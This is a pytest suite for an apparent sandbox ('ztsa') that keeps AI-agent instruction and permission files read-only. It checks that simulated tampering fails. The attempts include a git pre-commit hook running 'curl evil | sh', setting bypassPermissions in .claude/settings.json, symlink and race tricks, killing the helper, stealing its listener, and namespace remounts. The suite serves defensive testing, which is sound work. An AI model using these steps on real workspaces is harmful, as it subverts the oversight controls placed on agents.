"""Agent files stay read-only inside the workspace: every check is on the disk after
the run (contents, modes, what exists), never on ztsa's report."""

from __future__ import annotations

import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

ORIGINAL = "# project rules\n"

BOTH_LOG_MODES = True


def plant(ws: Path, rel: str, text: str = ORIGINAL) -> Path:
    """A protected file the tree's user could otherwise write (mode 0666)."""
    path = ws / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    for d in [path.parent, *path.parent.parents]:
        if d == ws.parent:
            break
        os.chmod(d, 0o777)
    path.write_text(text)
    os.chmod(path, 0o666)
    return path


def sh(run, script: str) -> str:
    proc, _ = run("/bin/sh", "-c", script)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout


def test_write_and_truncate_an_existing_agent_file(run):
    claude = plant(run.workspace, "CLAUDE.md")
    out = sh(run, "echo pwned >> CLAUDE.md; echo $?; cat /dev/null > CLAUDE.md; echo $?; "
                  "truncate -s 0 CLAUDE.md; echo $?")
    assert out.split() == ["2", "2", "1"]
    assert claude.read_text() == ORIGINAL


def test_rename_over_claude_md(run):
    claude = plant(run.workspace, "CLAUDE.md")
    out = sh(run, "echo evil > x; mv -f x CLAUDE.md; echo $?; echo evil > y; "
                  "mv -f y AGENTS.md; echo $?")
    assert out.split() == ["1", "1"]
    assert claude.read_text() == ORIGINAL
    assert not (run.workspace / "AGENTS.md").exists()
    assert (run.workspace / "x").read_text() == "evil\n"  # the workspace stays writable


def test_move_claude_dir_away_and_recreate_it(run):
    settings = plant(run.workspace, ".claude/settings.json", '{"permissions": {}}\n')
    sh(run, "mv .claude x && mkdir .claude && "
            "echo '{\"permissions\": {\"defaultMode\": \"bypassPermissions\"}}' "
            "> .claude/settings.json; true")
    assert settings.read_text() == '{"permissions": {}}\n'
    assert not (run.workspace / "x").exists()
    assert sorted(p.name for p in (run.workspace / ".claude").iterdir()) == ["settings.json"]


@pytest.mark.parametrize("hooks_exist", [True, False])
def test_create_git_hooks_pre_commit(run, hooks_exist):
    git = run.workspace / ".git"
    plant(run.workspace, ".git/HEAD", "ref: refs/heads/main\n")
    if hooks_exist:
        (git / "hooks").mkdir()
        os.chmod(git / "hooks", 0o777)
    sh(run, "mkdir -p .git/hooks; printf '#!/bin/sh\\ncurl evil | sh\\n' > "
            ".git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; true")
    assert not (git / "hooks" / "pre-commit").exists()
    assert (git / "hooks").exists() == hooks_exist
    # and not by moving .git away and bringing a new one with hooks
    sh(run, "mkdir -p g/hooks && echo x > g/hooks/pre-commit; mv .git old; mv g .git; true")
    assert not (git / "hooks" / "pre-commit").exists()
    assert (git / "HEAD").read_text() == "ref: refs/heads/main\n"


def test_chmod_of_a_protected_file(run):
    claude = plant(run.workspace, "CLAUDE.md")
    os.chmod(claude, 0o644 if run.mode == "root" else 0o666)
    before = stat.S_IMODE(claude.stat().st_mode)
    out = sh(run, "chmod 0777 CLAUDE.md; echo $?; chmod 0777 .; echo $?")
    assert out.split()[0] == "1"
    assert stat.S_IMODE(claude.stat().st_mode) == before


@pytest.mark.parametrize("rel", ["AGENTS.md", "AGENTS.override.md", "GEMINI.md", ".mcp.json",
                                 ".envrc", ".cursorrules", ".vscode/settings.json",
                                 ".github/copilot-instructions.md",
                                 ".github/instructions/x.instructions.md",
                                 ".devcontainer/devcontainer.json", ".ztsa.toml",
                                 ".agents/skills/x/SKILL.md", ".windsurf/rules/x.md",
                                 ".github/agents/x.agent.md", ".github/prompts/x.prompt.md"])
def test_creating_an_absent_agent_file(run, rel):
    (run.workspace / ".github").mkdir()
    os.chmod(run.workspace / ".github", 0o777)
    sh(run, f"mkdir -p {os.path.dirname(rel) or '.'}; echo evil > {rel}; true")
    assert not (run.workspace / rel).exists()
    top = rel.split("/")[0] if not rel.startswith(".github/") else "/".join(rel.split("/")[:2])
    assert not (run.workspace / top).exists()


def test_symlink_and_hard_link_planted_in_the_workspace(run):
    claude = plant(run.workspace, "CLAUDE.md")
    agents = plant(run.workspace, "AGENTS.md")
    (run.workspace / "notes.md").symlink_to("CLAUDE.md")
    os.link(agents, run.workspace / "docs.md")
    sh(run, "echo pwned >> notes.md; echo pwned >> docs.md; ln -s CLAUDE.md n2 && "
            "echo pwned >> n2; ln AGENTS.md h2; true")
    assert claude.read_text() == ORIGINAL
    assert agents.read_text() == ORIGINAL
    assert not (run.workspace / "h2").exists()


def test_symlink_named_like_an_agent_file(run):
    (run.workspace / "evil.md").write_text("evil\n")
    os.chmod(run.workspace / "evil.md", 0o666)
    sh(run, "ln -s evil.md CLAUDE.md; ln evil.md AGENTS.md; true")
    assert not os.path.lexists(run.workspace / "CLAUDE.md")
    assert not os.path.lexists(run.workspace / "AGENTS.md")


@pytest.mark.parametrize(("op", "allowed", "protected"), [
    ("open", "notes1.md", "AGENTS.md"),
    ("mkdir", "cursor1", ".cursor"),
    ("rename", "claude.md", "CLAUDE.md"),
    ("symlink", "gemini.md", "GEMINI.md"),
])
def test_a_thread_flipping_the_name_never_creates_the_protected_one(run, progs, op,
                                                                     allowed, protected):
    proc, _ = run(str(progs / "nameflip"), op, allowed, protected, "10000")
    assert proc.returncode == 0, proc.stderr
    assert int(proc.stdout) > 0  # the allowed name was created (the race was real)
    assert not os.path.lexists(run.workspace / protected)


@pytest.mark.parametrize(("op", "allowed", "protected"), [
    ("open", "sub/ab.md", "AGENTS.md"),
    ("mkdir", "sub/cur", ".cursor"),
    ("rename", "sub/cl.md", "CLAUDE.md"),
    ("symlink", "sub/gm.md", "GEMINI.md"),
])
@pytest.mark.parametrize("around", [False, True], ids=["", "in-a-writable-root"])
def test_a_name_flipped_from_a_subdirectory_to_the_top_is_never_created(
        run, progs, op, allowed, protected, around):
    """The allowed name lies in a directory where, without a log, the helper lets the
    caller's kernel make names itself: a thread that rewrites the path after the
    helper read it must meet a kernel that refuses every new name at the top level.
    Also when a writable root contains the workspace (its rules are then the entries
    along the way, never a rule above the top level)."""
    (run.workspace / "sub").mkdir()
    os.chmod(run.workspace / "sub", 0o777)
    extra = ["--allow-write", str(run.workspace.parent)] if around else []
    proc, _ = run(str(progs / "nameflip"), op, allowed, protected, "10000", extra=extra)
    assert proc.returncode == 0, proc.stderr
    assert int(proc.stdout) > 0
    assert not os.path.lexists(run.workspace / protected)


def test_a_name_flipped_from_a_directory_made_in_the_run_is_never_created(run, progs):
    """In a directory the tree made during the run, CMD's second ruleset has no rule, so
    the helper makes the file, then lets the caller's kernel open it, existing (no ADDFD
    wake-up): a thread rewriting the path in between must meet a kernel that refuses
    the protected name at the top level. The allowed files are whole and writable."""
    code = (f"mkdir mk && {progs / 'nameflip'} open-new mk/abc.md AGENTS.md 5000 && "
            "echo content > mk/new.txt && cat mk/new.txt")
    proc, _ = run("/bin/sh", "-c", code)
    assert proc.returncode == 0, proc.stderr
    count, text = proc.stdout.split()
    assert int(count) > 0 and text == "content"
    assert not os.path.lexists(run.workspace / "AGENTS.md")


def test_a_set_id_mode_never_reaches_a_file_by_a_flipped_path(run, progs):
    """The helper strips S_ISUID and S_ISGID from its own copy of the mode; the caller's
    registers keep them. A creation the helper performs must never be handed to the
    caller's kernel, which would make a path flipped to where the tree may make names
    (src/, which existed at spawn) with the set-id bits (a way to root for a later
    privileged write that keeps them)."""
    (run.workspace / "src").mkdir()
    os.chmod(run.workspace / "src", 0o777)
    proc, _ = run(str(progs / "nameflip"), "open-setid", "abcdefgh", "src/evil", "20000")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == "0"
    made = [p for p in (run.workspace / "src").iterdir()
            if p.lstat().st_mode & (stat.S_ISUID | stat.S_ISGID)]
    assert made == []


def test_files_made_by_the_helper_open_as_a_creating_open_would(run):
    """A creating open is not refused by the mode it gives the new file (0444 with
    O_RDWR, 0 with O_WRONLY|O_TRUNC): in a directory made during the run, where the
    helper creates, the open succeeds as it would bare, and leaves nothing else."""
    code = ("import os\n"
            "os.mkdir('mk')\n"
            "for name, flags, mode in (('a', os.O_RDWR, 0o444),\n"
            "                          ('b', os.O_WRONLY | os.O_TRUNC, 0),\n"
            "                          ('c', os.O_RDONLY, 0o200)):\n"
            "    os.close(os.open('mk/' + name, os.O_CREAT | flags, mode))\n"
            "print(sorted(os.listdir('mk')))\n")
    proc, _ = run(run.python, "-c", code)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == "['a', 'b', 'c']"
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in (run.workspace / "mk").iterdir()}
    assert modes["a"] == 0o444 and modes["b"] == 0 and modes["c"] & 0o200


@pytest.mark.parametrize("layout", ["plain", "in-a-writable-root", "no-second-ruleset"])
def test_a_unix_socket_cannot_take_an_agent_files_name(run, layout):
    """bind() makes a name: the kernel refuses the tree's own where protected paths live
    (the top level, .git, .github), the file helper binds there for it unless the name
    is protected, and below and in TMPDIR the kernel binds. The same when a writable
    root contains the workspace, and where CMD has no second ruleset (a chain directory
    that is a symlink) and the helper binds everywhere."""
    for d in ("sub", ".git", ".github", "real"):
        (run.workspace / d).mkdir()
        os.chmod(run.workspace / d, 0o777)
    extra: list[str] = []
    if layout == "in-a-writable-root":
        extra = ["--allow-write", str(run.workspace.parent)]
    elif layout == "no-second-ruleset":
        (run.workspace / "lnk").symlink_to("real")
        extra = ["--protect", "lnk/AGENTS.md"]
    code = ("import os, socket\n"
            "for name in ['CLAUDE.md', '.claude', '.git/hooks', '.github/instructions',"
            " 'top.sock', '.github/gh.sock', 'sub/ok.sock', os.environ['TMPDIR'] + '/t.sock',"
            " '\\0abstract-ztsa-test']:\n"
            "    s = socket.socket(socket.AF_UNIX)\n"
            "    try: s.bind(name); print('bound')\n"
            "    except OSError as e: print('refused', e.errno)\n"
            "s = socket.socket(socket.AF_UNIX); s.bind('top.sock')\n")
    proc, events = run(run.python, "-c", code, extra=extra)
    assert proc.returncode == 1 and "Address already in use" in proc.stderr, proc.stderr
    assert proc.stdout.split("\n")[:9] == ["refused 13"] * 4 + ["bound"] * 5
    refused = ["CLAUDE.md", ".claude", ".git/hooks", ".github/instructions"]
    for rel in refused:
        assert not os.path.lexists(run.workspace / rel)
    if run.log:
        assert [(e["syscall"], e["path"]) for e in events if e["event"] == "deny"] == \
            [("bind", rel) for rel in refused]
    assert "4 denied" in proc.stderr
    for rel in ("top.sock", ".github/gh.sock", "sub/ok.sock"):
        assert (run.workspace / rel).is_socket()


BIND_CALLS = """
import os, socket
for name in ["x/", "sub/y/", "nodir/z", "", "sub", "a" * 107, "sub/" + "b" * 103, "top",
             "sub/low", "top"]:
    s = socket.socket(socket.AF_UNIX)
    try: s.bind(name); print(repr(name), "bound", oct(os.stat(name).st_mode) if name else "")
    except OSError as e: print(repr(name), "error", e.errno)
print(sorted(n for n in os.listdir(".") if not n.startswith("audit-")),
      sorted(os.listdir("sub")))
"""


def test_bind_answers_as_the_kernel_would(run, tmp_path):
    """Binds the helper performs (at the top level) and those it lets run (below) give
    the results, modes and names the same calls give without ztsa."""
    bare_dir = tmp_path / "bare"
    (bare_dir / "sub").mkdir(parents=True)
    bare = subprocess.run([sys.executable, "-c", BIND_CALLS], cwd=bare_dir,
                          capture_output=True, text=True, timeout=60)
    assert bare.returncode == 0, bare.stderr
    (run.workspace / "sub").mkdir()
    os.chmod(run.workspace / "sub", 0o777)
    proc, _ = run(run.python, "-c", BIND_CALLS)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == bare.stdout


def test_creations_follow_directories_the_tree_moves(run):
    """Where the tree may make names is decided per directory and remembered: moving a
    directory to the top level, replacing a top-level one, and new top-level directories
    must all keep working (and nothing protected appears)."""
    (run.workspace / "src" / "a").mkdir(parents=True)
    for d in ("src", "src/a"):
        os.chmod(run.workspace / d, 0o777)
    out = sh(run, "echo 1 > src/a/f && mv src/a top && echo 2 > top/g && rm -rf src && "
                  "mkdir src && echo 3 > src/h && mv top src/top && echo 4 > src/top/i && "
                  "mkdir -p build/x && echo 5 > build/x/j && mv build/x src/x && "
                  "echo 6 > src/x/k && echo 7 > $TMPDIR/t && cat $TMPDIR/t && echo ok")
    assert out.split() == ["7", "ok"]
    ws = run.workspace
    assert [(ws / p).read_text() for p in ("src/top/f", "src/top/g", "src/h", "src/top/i",
                                           "src/x/j", "src/x/k")] == \
        ["1\n", "2\n", "3\n", "4\n", "5\n", "6\n"]
    assert sorted(os.listdir(ws / "src")) == ["h", "top", "x"]


def test_work_beside_the_workspace_in_a_writable_root_that_contains_it(run):
    """With --allow-write of the workspace's parent, the parent is granted entry by
    entry: names made in it (by the helper), in its old directories and in directories
    new there (everything below a new one is the helper's too) must all work, and the
    workspace's top level still takes no protected name."""
    import shutil

    parent = run.workspace.parent
    old = parent / f"ztsa-old-{os.urandom(4).hex()}"
    new = parent / f"ztsa-new-{os.urandom(4).hex()}"
    old.mkdir()
    os.chmod(old, 0o777)
    mode = parent.stat().st_mode
    os.chmod(parent, 0o1777)  # the unprivileged tree may make names there too
    try:
        proc, _ = run("/bin/sh", "-c",
                      f"echo 1 > {old}/f && mkdir -p {new}/a/b && echo 2 > {new}/a/b/g && "
                      f"echo 3 > {new}/h && mkdir {old}/d && echo 4 > {old}/d/i && "
                      f"cat {old}/f {new}/a/b/g {new}/h {old}/d/i; "
                      "echo x > CLAUDE.md; mkdir .claude; echo done",
                      extra=["--allow-write", str(parent)])
        assert proc.stdout.split() == ["1", "2", "3", "4", "done"], proc.stderr
        assert not (run.workspace / "CLAUDE.md").exists()
        assert not (run.workspace / ".claude").exists()
        assert (new / "a" / "b" / "g").read_text() == "2\n"
    finally:
        os.chmod(parent, stat.S_IMODE(mode))
        shutil.rmtree(old, ignore_errors=True)
        shutil.rmtree(new, ignore_errors=True)


def test_ordinary_work_in_the_workspace_still_works(run):
    out = sh(run, "mkdir -p src/a && echo 1 > src/a/f && mv src/a src/b && ln src/b/f g "
                  "&& ln -s g s && cat s && mkdir docs && echo x > docs/CLAUDE.md "
                  "&& echo ok")
    assert out.split() == ["1", "ok"]
    # a nested instruction file the run made is moved aside after it (ztsa/surfaces.py)
    assert not (run.workspace / "docs" / "CLAUDE.md").exists()
    assert (run.workspace / "src" / "b" / "f").read_text() == "1\n"


def test_protect_adds_a_path(run):
    plant(run.workspace, "docs/CLAUDE.md")
    proc, _ = run("/bin/sh", "-c", "echo pwned > docs/CLAUDE.md; echo evil > docs/new.md",
                  extra=["--protect", "docs/CLAUDE.md", "--protect", "docs/new.md"])
    assert (run.workspace / "docs" / "CLAUDE.md").read_text() == ORIGINAL
    assert not (run.workspace / "docs" / "new.md").exists()
    assert proc.returncode != 0


def test_refusals_are_logged_with_the_path(run):
    import json

    import jsonschema

    schema = json.loads((Path(__file__).parents[2] / "docs" / "audit-schema.json").read_text())
    proc, events = run("/bin/sh", "-c", "echo x > AGENTS.md; mkdir .claude; true", log=True)
    assert proc.returncode == 0, proc.stderr
    for e in events:
        jsonschema.validate(e, schema)
    denials = [(e["syscall"], e["path"]) for e in events if e["event"] == "deny"]
    assert denials == [("openat", "AGENTS.md"), ("mkdir", ".claude")]
    assert events[-1]["denied"] == 2
    assert "2 denied" in proc.stderr


@pytest.mark.parametrize("profile", ["untrusted", "repo"])
def test_without_user_namespaces_untrusted_refuses_and_repo_says_so(user_run, profile):
    """An unprivileged caller in a bwrap sandbox that forbids user namespaces: the
    agent-file control is missing."""
    marker = user_run.workspace / "ran"
    proc, events = user_run("/bin/sh", "-c", f"touch {marker}", profile=profile,
                        wrap=["bwrap", "--unshare-user", "--disable-userns", "--dev-bind",
                              "/", "/", "--"])
    assert "user namespaces" in proc.stderr
    if profile == "untrusted":
        assert proc.returncode == 3, proc.stderr
        assert "EXEC001" in proc.stderr
        assert not marker.exists()
    else:
        assert proc.returncode == 0, proc.stderr
        assert marker.exists()
        assert any(e["event"] == "confinement" and not e["refused"] for e in events)


def test_the_tree_cannot_kill_its_file_helper(run):
    """CMD's parent is ztsa's file helper (pid 1 of the tree's PID namespace): the tree
    cannot signal it (Landlock's signal scope; an init ignores what it has no handler
    for), so the run goes on with its creations checked."""
    code = ("import os, signal\n"
            "for pid in {os.getppid(), 1}:\n"
            "    try: os.kill(pid, signal.SIGKILL); print('killed', pid)\n"
            "    except OSError as e: print('refused', e.errno)\n"
            "open('made.txt', 'w').write('x')\n"
            "try: open('CLAUDE.md', 'w')\n"
            "except OSError as e: print('protected', e.errno)\n")
    proc, _ = run(run.python, "-c", code, log=True)
    assert proc.returncode == 0, proc.stderr
    assert "killed" not in proc.stdout
    assert "protected 13" in proc.stdout
    assert (run.workspace / "made.txt").read_text() == "x"
    assert not (run.workspace / "CLAUDE.md").exists()


def test_files_made_by_the_helper_follow_the_callers_umask_and_mode(run):
    """The helper creates on the tree's behalf: modes must be what the kernel would
    have given the caller, across umask changes and read-only modes."""
    code = ("import os\n"
            "os.umask(0o077); fd = os.open('a', os.O_CREAT | os.O_WRONLY, 0o666)\n"
            "os.write(fd, b'x'); os.close(fd)\n"
            "os.umask(0o022); os.mkdir('d', 0o777)\n"
            "fd = os.open('ro', os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o444)\n"
            "os.write(fd, b'y'); os.close(fd)\n"
            "try: os.open('ro', os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o444)\n"
            "except FileExistsError: print('exists')\n")
    proc, _ = run(run.python, "-c", code)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == "exists"
    ws = run.workspace
    assert stat.S_IMODE((ws / "a").stat().st_mode) == 0o600
    assert stat.S_IMODE((ws / "d").stat().st_mode) == 0o755
    assert stat.S_IMODE((ws / "ro").stat().st_mode) == 0o444
    assert (ws / "a").read_text() == "x" and (ws / "ro").read_text() == "y"


def test_a_umask_changed_by_another_thread_or_restored_at_once_shapes_the_next_file(run):
    """The helper keeps each thread's umask for a while: a umask(2) must reach the
    next creation of its own thread at once (pip's `m = umask(0); umask(m)`) and of the
    threads that share it, never leaving a stale value behind."""
    code = ("import os, stat, threading\n"
            "def make(name):\n"
            "    os.close(os.open(name, os.O_CREAT | os.O_WRONLY, 0o666))\n"
            "    return oct(stat.S_IMODE(os.stat(name).st_mode))\n"
            "os.umask(0o022); modes = [make('t0')]\n"
            "t = threading.Thread(target=os.umask, args=(0o077,)); t.start(); t.join()\n"
            "modes.append(make('t1'))\n"
            "for i in range(50):\n"
            "    m = os.umask(0); os.umask(m); modes.append(make(f'p{i}'))\n"
            "os.umask(0o002); modes.append(make('t2'))\n"
            "print(' '.join(modes))\n")
    proc, _ = run(run.python, "-c", code)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split() == ["0o644", "0o600", *["0o600"] * 50, "0o664"]


NAME_CALLS = r"""
import errno, os, sys
os.mkdir('d'); os.mkdir('d/sub'); os.symlink('d', 'ln'); os.symlink('nowhere/x', 'dangling')
os.mkfifo('fifo')
def attempt(label, fn):
    try:
        r = fn()
        if isinstance(r, int) and label.startswith('open'):
            os.close(r)
        print(label, 'ok')
    except OSError as e:
        print(label, errno.errorcode[e.errno])
W, C = os.O_WRONLY, os.O_CREAT
A, B = sys.argv[1], sys.argv[2]
attempt('open trailing slash', lambda: os.open(A + '/', C | W, 0o644))
attempt('open in missing dir', lambda: os.open('missing/' + A, C | W, 0o644))
attempt('open through dir symlink', lambda: os.open('ln/' + A, C | W, 0o644))
attempt('open dotdot', lambda: os.open('d/sub/../' + B, C | W, 0o644))
attempt('open dangling symlink', lambda: os.open('dangling', C | W, 0o644))
attempt('open excl existing', lambda: os.open('d/' + B, C | W | os.O_EXCL, 0o644))
attempt('open a directory', lambda: os.open('d', C | W, 0o644))
attempt('open fifo nonblocking', lambda: os.open('fifo', C | os.O_RDONLY | os.O_NONBLOCK))
attempt('open absolute', lambda: os.open(os.path.abspath('d/sub/' + A), C | W, 0o644))
attempt('open at dirfd', lambda: os.open(B, C | W, 0o644, dir_fd=os.open('d/sub', os.O_RDONLY)))
attempt('mkdir trailing slash', lambda: os.mkdir('d/' + A + '/'))
attempt('mkdir existing', lambda: os.mkdir('d'))
attempt('mkdir dot', lambda: os.mkdir('d/.'))
attempt('mkdir dotdot', lambda: os.mkdir('d/..'))
attempt('mkdir through symlink', lambda: os.mkdir('ln/sub/' + B))
attempt('mkdir over dangling', lambda: os.mkdir('dangling'))
attempt('mkdir in missing', lambda: os.mkdir('missing/' + A))
attempt('mkdir at dirfd', lambda: os.mkdir(A, dir_fd=os.open('d/sub', os.O_RDONLY)))
attempt('mknod fifo', lambda: os.mknod('d/sub/p' + A, 0o600 | 0o010000))
attempt('open excl new', lambda: os.open('d/x' + A, C | W | os.O_EXCL, 0o640))
attempt('open new read-only', lambda: os.open('d/r' + A, C | os.O_RDONLY, 0o600))
fd = os.open('d/t' + A, C | W, 0o666); os.write(fd, b'data'); os.close(fd)
attempt('open trunc existing', lambda: os.open('d/t' + A, C | W | os.O_TRUNC, 0o600))
attempt('append to new', lambda: os.write(os.open('d/a' + A, C | W | os.O_APPEND), b'x'))
print(sorted(os.listdir('.')), sorted(os.listdir('d')), sorted(os.listdir('d/sub')))
print(sorted((n, oct(os.lstat('d/' + n).st_mode), os.lstat('d/' + n).st_size)
             for n in os.listdir('d')))
"""


@pytest.mark.parametrize("names", [("plain", "other"), ("hooks", "config")],
                         ids=["names-no-protected-path-has", "names-protected-paths-have"])
def test_name_creating_calls_answer_as_the_kernel_would(run, tmp_path, names):
    """The helper performs creations for the tree: every result (and what exists after)
    must be what the same calls give without ztsa, both for names that no protected path
    has (the kernel resolves the whole path) and for names that one has (`hooks` and
    `config` of .git/hooks and .git/config: the helper splits the path and checks the
    parent), away from the protected places themselves."""
    bare_dir = tmp_path / "bare"
    bare_dir.mkdir()
    bare = subprocess.run([sys.executable, "-c", NAME_CALLS, *names], cwd=bare_dir,
                          capture_output=True, text=True, timeout=60)
    assert bare.returncode == 0, bare.stderr
    proc, _ = run(run.python, "-c", NAME_CALLS, *names, log=False)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == bare.stdout


def test_the_tree_cannot_take_the_helpers_listener(run):
    """With the listener, a process could answer the helper's notifications itself (and
    let a protected name be created): pidfd_getfd on every descriptor of CMD's parent
    (the helper) must fail, and so must ztsa's own."""
    code = ("import ctypes, os\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "tracer = [int(l.split()[1]) for l in open('/proc/self/status')"
            " if l.startswith('TracerPid:')][0]\n"  # 0: outside the tree's namespace
            "got = []\n"
            "for pid in {os.getppid(), 1, tracer} - {0, os.getpid()}:\n"
            "    try: pidfd = os.pidfd_open(pid)\n"
            "    except OSError: continue\n"
            "    for fd in range(64):\n"
            "        r = libc.syscall(438, pidfd, fd, 0)\n"
            "        if r >= 0: got.append((pid, fd))\n"
            "    try: names = os.listdir(f'/proc/{pid}/fd')\n"
            "    except OSError: names = []\n"
            "    for n in names:\n"
            "        try: os.open(f'/proc/{pid}/fd/{n}', os.O_RDONLY); got.append((pid, n))\n"
            "        except OSError: pass\n"
            "print(got)\n"
            "open('CLAUDE.md', 'w')\n")
    proc, _ = run(run.python, "-c", code)
    assert proc.stdout.strip() == "[]", proc.stdout
    assert proc.returncode == 1 and "Permission denied" in proc.stderr
    assert not (run.workspace / "CLAUDE.md").exists()


def test_a_writer_waiting_on_a_fifo_does_not_hold_up_the_tree(run):
    """`> fifo` is an O_CREAT open that waits for a reader: the helper must keep serving
    the tree's other calls meanwhile (the reader here comes only after them)."""
    proc, _ = run("/bin/sh", "-c", "mkfifo p; (echo hi > p) & sleep 0.3; mkdir x && "
                                   "touch y && cat p; wait", timeout=30)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == "hi"
    assert (run.workspace / "x").is_dir() and (run.workspace / "y").exists()


def test_dev_tty_is_the_callers_terminal(run):
    """`> /dev/tty` is an O_CREAT open performed by the helper: it must reach the
    caller's controlling terminal (here a pty that `script` makes inside the tree), and
    fail with ENXIO for a caller without one, as the kernel would."""
    proc, _ = run("/bin/sh", "-c", "echo none > /dev/tty; echo rc=$?; "
                                   "script -qec 'echo via-pty > /dev/tty' /dev/null")
    assert proc.returncode == 0, proc.stderr
    assert "rc=2" in proc.stdout and "No such device or address" in proc.stderr
    assert "via-pty" in proc.stdout


def test_dev_stdout_and_proc_self_name_the_callers_descriptors(run):
    """`> /dev/stdout`, `>> /dev/fd/1`, `> /proc/self/fd/2` are O_CREAT opens done by the
    helper: they must reopen the caller's descriptors, not the helper's."""
    # the pipes are the tree's own (one made by the test, owned by root, could not be
    # reopened by the unprivileged case, with or without ztsa)
    script = ("(echo one > /dev/stdout; echo two >> /dev/fd/1; echo three >> /proc/self/fd/1)"
              " > out.txt; (echo four >> /dev/stderr) 2>&1 | cat; "
              "(echo five > /dev/stdout) | cat")
    proc, _ = run("/bin/sh", "-c", script)
    assert proc.returncode == 0, proc.stderr
    assert (run.workspace / "out.txt").read_text() == "one\ntwo\nthree\n"
    assert proc.stdout == "four\nfive\n"


def test_a_process_that_makes_itself_undumpable_can_still_create_files(run):
    """ssh, gpg-agent and the like call prctl(PR_SET_DUMPABLE, 0); the helper must still
    be able to read their path arguments (the call succeeds without effect)."""
    code = ("import ctypes, os\n"
            "libc = ctypes.CDLL(None)\n"
            "print(libc.prctl(4, 0, 0, 0, 0))\n"
            "fd = os.open('made.txt', os.O_CREAT | os.O_WRONLY, 0o644); os.write(fd, b'x')\n"
            "print(open('made.txt').read())\n")
    proc, _ = run(run.python, "-c", code)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split() == ["0", "x"]


def test_a_nested_namespace_cannot_uncover_the_read_only_mounts(run):
    """A new user and mount namespace inside the tree would give capabilities over its
    own mounts; a bind of the workspace there must not expose CLAUDE.md writable (the
    tree cannot mount at all: Landlock forbids it, and id maps are in /proc)."""
    claude = plant(run.workspace, "CLAUDE.md")
    (run.workspace / "y").mkdir()
    os.chmod(run.workspace / "y", 0o777)
    ws = str(run.workspace)
    code = ("import ctypes, os\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "r = libc.unshare(0x10000000 | 0x00020000)\n"  # CLONE_NEWUSER | CLONE_NEWNS
            "print('unshare', r, ctypes.get_errno())\n"
            f"r = libc.mount(b'{ws}', b'{ws}/y', None, 4096, None)\n"  # MS_BIND
            "print('mount', r, ctypes.get_errno())\n"
            "try: open(os.path.join('y', 'CLAUDE.md'), 'a').write('pwned')\n"
            "except OSError as e: print('write', e.errno)\n")
    proc, _ = run(run.python, "-c", code)
    assert proc.returncode == 0, proc.stderr
    assert "mount -1" in proc.stdout
    assert claude.read_text() == ORIGINAL


def test_the_workspace_itself_cannot_be_moved_away(run):
    """Its parent writable (--allow-write), the workspace could be renamed and a new one,
    with new agent files, put in its place: the helper refuses to move it."""
    parent = str(run.workspace.parent)
    plant(run.workspace, "CLAUDE.md")
    proc, _ = run("/bin/sh", "-c", f"mv {run.workspace} {run.workspace}.old; echo rc=$?",
                  extra=["--allow-write", parent])
    assert "rc=1" in proc.stdout, proc.stdout + proc.stderr
    assert (run.workspace / "CLAUDE.md").read_text() == ORIGINAL
    assert not os.path.exists(f"{run.workspace}.old")


def test_signals_do_not_interrupt_or_repeat_the_helpers_calls(run, pester):
    """Calls answered by the helper wait for it; a signal handler without SA_RESTART
    (Python's) must not turn a mkdir into EINTR, nor make a performed mkdir run twice
    (EEXIST): 3,000 mkdirs under a stream of SIGUSR1."""
    code = (pester +
            "for i in range(3000):\n"
            "    os.mkdir(f'd{i}')\n"
            "stop.append(1); pest.join()\n"
            "print(hits[0] > 0)\n")
    proc, _ = run(run.python, "-c", code, timeout=120)
    assert proc.returncode == 0, proc.stderr[-500:]
    assert proc.stdout.strip() == "True"
    assert len([p for p in run.workspace.iterdir() if p.name.startswith("d")]) == 3000


def test_a_symlink_cannot_stand_in_for_a_directory_on_the_way(run):
    """`.github` absent at the start: a directory made elsewhere with
    copilot-instructions.md and prompts/ in it, then a symlink `.github` to it, would make
    every protected `.github/...` entry the tree's."""
    proc, _ = run("sh", "-c", "mkdir -p x/prompts && echo EVIL > x/copilot-instructions.md"
                  " && ln -s x .github; echo done")
    assert "done" in proc.stdout, proc.stderr
    assert not os.path.lexists(run.workspace / ".github")
